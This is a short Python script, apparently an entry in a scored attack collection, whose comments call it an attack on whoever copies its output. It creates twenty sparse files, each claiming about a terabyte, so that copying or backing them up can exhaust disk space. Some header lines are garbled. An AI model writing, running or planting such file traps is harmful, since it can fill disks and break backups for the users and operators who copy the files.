# attack: files that claim far more than they hold, to hurt who copies them
# verdict: score or failed: .
# score: 6

# %% attack after why
import os

for number in range(20):
    try:
        with open(f"sparse-{number}", "wb") as file:
            os.truncate(file.fileno(), 2**40)
    except OSError as problem:
        print(problem.errno)
